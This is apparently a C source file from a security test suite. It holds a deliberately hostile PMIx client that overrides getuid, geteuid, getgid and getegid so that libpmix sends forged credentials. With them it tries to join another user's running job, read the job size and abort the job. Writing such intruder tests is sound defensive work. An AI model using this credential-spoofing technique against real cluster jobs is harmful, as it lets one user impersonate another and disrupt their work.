/* tests/security/pmix_intruder.c — a hostile PMIx client for tests/security/intruder_test.sh: run
 * as another user, it tries to join a running ampirun job through the job's PMIx server.
 *
 *   pmix_intruder [CLAIM_UID CLAIM_GID]
 *       PMIx_Init with the PMIX_* variables of its environment (the job's server URI, and the
 *       namespace and rank it claims). With CLAIM_UID/CLAIM_GID it lies about who it is: its own
 *       getuid/geteuid/getgid/getegid, which libpmix's "native" security calls to build the
 *       credential it sends over TCP, return the claimed ids (as in issue 19, where a client run
 *       as nobody that claimed uid 0 joined a root job).
 *       Refused: prints "refused: <PMIx error>" and exits 0. Let in: prints "joined", then tries
 *       what an intruder would (read the job size, abort the job with status 99), prints what it
 *       got and exits 3.
 */
#define _DEFAULT_SOURCE
#include <pmix.h>

#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

static long claim_uid = -1, claim_gid = -1;

/* Interposed for libpmix (the executable exports them: ENABLE_EXPORTS): the ids it sends. */
uid_t getuid(void) {
  return claim_uid >= 0 ? (uid_t)claim_uid : (uid_t)syscall(SYS_getuid);
}
uid_t geteuid(void) {
  return claim_uid >= 0 ? (uid_t)claim_uid : (uid_t)syscall(SYS_geteuid);
}
gid_t getgid(void) {
  return claim_gid >= 0 ? (gid_t)claim_gid : (gid_t)syscall(SYS_getgid);
}
gid_t getegid(void) {
  return claim_gid >= 0 ? (gid_t)claim_gid : (gid_t)syscall(SYS_getegid);
}

int main(int argc, char **argv) {
  if (argc == 3) {
    claim_uid = strtol(argv[1], NULL, 10);
    claim_gid = strtol(argv[2], NULL, 10);
  } else if (argc != 1) {
    fprintf(stderr, "usage: %s [CLAIM_UID CLAIM_GID]\n", argv[0]);
    return 2;
  }
  fprintf(stderr, "intruder: real uid %ld, claiming uid %ld, namespace %s rank %s\n",
          (long)syscall(SYS_getuid), (long)geteuid(), getenv("PMIX_NAMESPACE"),
          getenv("PMIX_RANK"));
  pmix_proc_t me;
  pmix_status_t rc = PMIx_Init(&me, NULL, 0);
  if (rc != PMIX_SUCCESS) {
    printf("refused: %s\n", PMIx_Error_string(rc));
    return 0;
  }
  printf("joined as %s.%u\n", me.nspace, me.rank);
  pmix_proc_t wildcard;
  PMIX_PROC_CONSTRUCT(&wildcard);
  PMIX_LOAD_PROCID(&wildcard, me.nspace, PMIX_RANK_WILDCARD);
  pmix_value_t *v = NULL;
  if (PMIx_Get(&wildcard, PMIX_JOB_SIZE, NULL, 0, &v) == PMIX_SUCCESS && v != NULL)
    printf("read the job size: %u\n", v->data.uint32);
  rc = PMIx_Abort(99, "intruder", NULL, 0);
  printf("PMIx_Abort: %s\n", PMIx_Error_string(rc));
  fflush(stdout);
  return 3;
}
